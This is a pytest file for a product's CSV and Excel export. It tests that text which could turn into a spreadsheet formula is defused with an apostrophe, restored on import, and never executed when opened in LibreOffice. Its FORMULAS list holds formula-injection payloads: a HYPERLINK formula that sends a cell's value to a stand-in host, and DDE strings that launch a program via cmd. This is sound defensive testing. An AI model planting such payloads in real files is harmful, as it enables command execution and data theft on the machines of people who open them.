"""Tables that leave the product open as what they are: no text becomes a formula, no number a text, nothing is lost on the way back."""

import csv
import io
import subprocess
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from tempfile import NamedTemporaryFile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from rapporto.store.transfer.csv_table import CsvTable
from rapporto.store.transfer.defused import as_it_was, defused
from rapporto.store.transfer.opened import open_table
from rapporto.store.transfer.tables import Column
from rapporto.store.transfer.xlsx_table import MOST_LETTERS, XlsxTable

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1;"qui")',
    "+A1",
    "-A1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "- richiamare",
    "+",
)
AS_THEY_ARE = (
    "+39 045 790 1234",
    "+39(045)790-1234",
    "+390457901234",
    "-12,50",
    "-12.50",
    "007",
    "00743110157",
    "1234567890123456789012",
    "IT60X0542811101000000123456",
    "a=b",
    "'virgolette'",
    "",
)
TEXT = (Column("Testo"),)
MOMENT = datetime(2026, 11, 22, 9, 30, tzinfo=UTC).replace(tzinfo=None)
MIDNIGHT = MOMENT.replace(hour=0, minute=0)


def as_csv(columns: Sequence[Column], rows: Sequence[Sequence[Any]], language: str = "it") -> bytes:
    """The file of a table."""
    file = io.BytesIO()
    table = CsvTable(file, columns, language, yes="Sì", no="No")
    for row in rows:
        table.row(row)
    table.close()
    return file.getvalue()


def as_xlsx(columns: Sequence[Column], rows: Sequence[Sequence[Any]], folder: Path, **options: Any) -> bytes:
    """The workbook of a table, with a title and one line above its heads."""
    file = io.BytesIO()
    table = XlsxTable(file, columns, title="Anagrafiche", lines=["In Veneto"], folder=str(folder), **options)
    for row in rows:
        table.row(row)
    table.close()
    return file.getvalue()


def cells(workbook: bytes, sheet: int = 0) -> list[list[Any]]:
    """The cells below the heads, as openpyxl reads them: formulas stay «=…» and bear the type f."""
    found = load_workbook(io.BytesIO(workbook)).worksheets[sheet]
    assert not [cell for row in found.iter_rows() for cell in row if cell.data_type == "f"]
    return [
        [unescape(cell.value) if isinstance(cell.value, str) else cell.value for cell in row]
        for row in found.iter_rows(min_row=5)
    ]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe_in_a_csv_and_loses_it_when_read(text: str) -> None:
    assert defused(text) == f"'{text}"
    assert as_it_was(defused(text)) == text


@pytest.mark.parametrize("text", AS_THEY_ARE)
def test_numbers_telephones_and_codes_stay_as_they_are(text: str) -> None:
    assert defused(text) == text
    assert as_it_was(text) == text


@given(st.text(alphabet="'=+-@\t\r0123456789 aA,.\uff1d", max_size=8) | st.text(max_size=30))
def test_reading_gives_back_whatever_was_written(text: str) -> None:
    assert as_it_was(defused(text)) == text


@given(st.lists(st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=20), min_size=2, max_size=4))
def test_a_csv_is_read_back_by_the_product_as_it_was(texts: list[str]) -> None:
    rows = [[text, "x"] for text in texts]
    data = as_csv((Column("Testo"), Column("Altro")), rows)
    with NamedTemporaryFile(suffix=".csv") as file:
        file.write(data)
        file.flush()
        table = open_table(Path(file.name), "clienti.csv")
        assert table.headers == ("Testo", "Altro")
        assert [list(row.values) for row in table.rows()] == [[text.strip(), "x"] for text in texts]


def test_an_italian_csv_opens_in_an_italian_spreadsheet_and_an_english_one_in_an_english() -> None:
    values = ["à", 12400, Decimal("-1234.50"), date(2026, 11, 22), MOMENT, True, False, None]
    columns = [Column(name) for name in "abcdefgh"]
    italian = as_csv(columns, [values]).decode("utf-8")
    assert italian == ("\ufeffa;b;c;d;e;f;g;h\r\nà;12400;-1234,50;22/11/2026;22/11/2026 09:30;Sì;No;\r\n")
    english = as_csv(columns, [values], "en").decode("utf-8-sig")
    assert english.splitlines()[1].startswith("à,12400,-1234.50,22/11/2026")


def test_separators_quotes_and_line_breaks_stay_within_their_cell() -> None:
    hostile = 'a;b,c"d\r\n=1+1'
    data = as_csv(TEXT, [[hostile]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data, newline=""), delimiter=";")) == [["Testo"], [hostile]]


def test_a_workbook_holds_numbers_amounts_dates_and_yes_or_no_as_such(tmp_path: Path) -> None:
    columns = (
        Column("n", form="number"),
        Column("€", form="money"),
        Column("d", form="date"),
        Column("m", form="moment"),
        Column("t", form="tick"),
    )
    row = [12400, Decimal("-1234.50"), date(2026, 11, 22), MOMENT, False]
    data = as_xlsx(columns, [row, [None] * 5], tmp_path)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    found = list(sheet[5])
    assert [cell.value for cell in found] == [
        12400,
        -1234.5,
        MIDNIGHT,
        MOMENT,
        False,
    ]
    assert [cell.data_type for cell in found] == ["n", "n", "d", "d", "b"]
    assert [cell.number_format for cell in found][:4] == ["#,##0", "#,##0.00", "dd/mm/yyyy", "dd/mm/yyyy hh:mm"]
    assert [sheet["A1"].value, sheet["A2"].value] == ["Anagrafiche", "In Veneto"]


@pytest.mark.parametrize(
    "text", [*FORMULAS, *AS_THEY_ARE[:-1], "http://x.example", "{=1}", "_x0041_", "a\u202eb", "👩‍👩‍👧"]
)
def test_a_text_is_a_text_in_a_workbook_and_nothing_is_put_before_it(text: str, tmp_path: Path) -> None:
    data = as_xlsx(TEXT, [[text]], tmp_path)
    ((found,),) = cells(data)
    assert found == text


def test_what_a_spreadsheet_cannot_hold_as_a_number_or_date_is_a_text(tmp_path: Path) -> None:
    data = as_xlsx((Column("n", form="number"), Column("d", form="date")), [[10**15 + 1, date(1899, 12, 31)]], tmp_path)
    assert cells(data) == [["1000000000000001", "31/12/1899"]]


def test_a_text_longer_than_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    for text in ("x" * 40_000, "👩" * 20_000):
        ((found,),) = cells(as_xlsx(TEXT, [[text]], tmp_path))
        assert found.endswith("…")
        assert len(found.encode("utf-16-le")) // 2 <= MOST_LETTERS


def test_more_rows_than_a_sheet_holds_go_on_in_the_next_one_with_its_heads(tmp_path: Path) -> None:
    data = as_xlsx(TEXT, [[str(number)] for number in range(20)], tmp_path, most_rows=12)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Anagrafiche", "Anagrafiche 2", "Anagrafiche 3"]
    assert [row[0] for at in range(3) for row in cells(data, at)] == [str(number) for number in range(20)]
    assert {sheet["A4"].value for sheet in book.worksheets} == {"Testo"}


@pytest.mark.parametrize("title", ["a/b:c*?[x]\\", "'virgolette'", "x" * 60, "", "  "])
def test_any_title_gives_a_sheet(title: str, tmp_path: Path) -> None:
    file = io.BytesIO()
    XlsxTable(file, TEXT, title=title, lines=[], folder=str(tmp_path)).close()
    assert load_workbook(file).sheetnames


def test_groups_fold_under_their_heads(tmp_path: Path) -> None:
    file = io.BytesIO()
    table = XlsxTable(file, TEXT, title="x", lines=[], folder=str(tmp_path), grouped=True)
    table.group(["Veneto (2)"], 0)
    table.group(["Verona (2)"], 1)
    table.row(["Casale"], 2)
    table.row(["Adige"], 2)
    table.group(["Lazio (0)"], 0)
    table.close()
    sheet = load_workbook(file).worksheets[0]
    assert [(sheet.cell(row, 1).value, sheet.row_dimensions[row].outlineLevel) for row in range(4, 9)] == [
        ("Veneto (2)", 0),
        ("Verona (2)", 1),
        ("Casale", 2),
        ("Adige", 2),
        ("Lazio (0)", 0),
    ]
    assert sheet["A4"].font.b
    assert not sheet["A6"].font.b


def test_memory_does_not_grow_with_the_rows(tmp_path: Path) -> None:
    table = XlsxTable(io.BytesIO(), TEXT, title="x", lines=[], folder=str(tmp_path), grouped=True)
    for number in range(3000):
        table.row([str(number)], 1)
    assert len(table.sheet.row_info) < 5
    assert len(table.sheet.table) < 5
    table.close()


def opened(libreoffice: Path, file: Path, *reading: str) -> list[list[str]]:
    """What LibreOffice shows of a file, cell by cell."""
    folder = file.parent / "shown"
    # semicolons, quotes, UTF-8, from the first row, Italian; cells as they are shown
    shown = "csv:Text - txt - csv (StarCalc):59,34,76,1,,1040,false,true,true"
    own = f"-env:UserInstallation=file://{file.parent}/profile"
    command = [str(libreoffice), own, "--headless", *reading, "--convert-to", shown, "--outdir", str(folder), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    text = (folder / file.name).with_suffix(".csv").read_text("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_libreoffice_opens_both_and_carries_out_nothing(libreoffice: Path, tmp_path: Path) -> None:
    texts = [one for one in (*FORMULAS, *AS_THEY_ARE) if one and "\r" not in one and "\t" not in one]
    rows = [[text, Decimal("1234.50"), date(2026, 11, 22)] for text in texts]
    columns = (Column("Testo"), Column("Importo", form="money"), Column("Giorno", form="date"))
    book, table = tmp_path / "book.xlsx", tmp_path / "table.csv"
    book.write_bytes(as_xlsx(columns, rows, tmp_path))
    table.write_bytes(as_csv(columns, rows))
    assert opened(libreoffice, book)[4:] == [
        [text, "1,234.50", "22/11/2026"] for text in texts
    ]  # it runs in English here
    # as the worst of spreadsheets would: special numbers found, formulas carried out
    found = opened(libreoffice, table, "--infilter=CSV:59,34,76,1,,1040,false,true,,,,,true")[1:]
    carried_out = [
        (text, row[0]) for text, row in zip(texts, found, strict=True) if row[0].lstrip("'") != text.lstrip("'")
    ]
    assert [text for text, _ in carried_out if text in FORMULAS] == []
    assert {tuple(row[1:]) for row in found} == {("1234.5", "11/22/2026")}  # a number and a day, shown in English
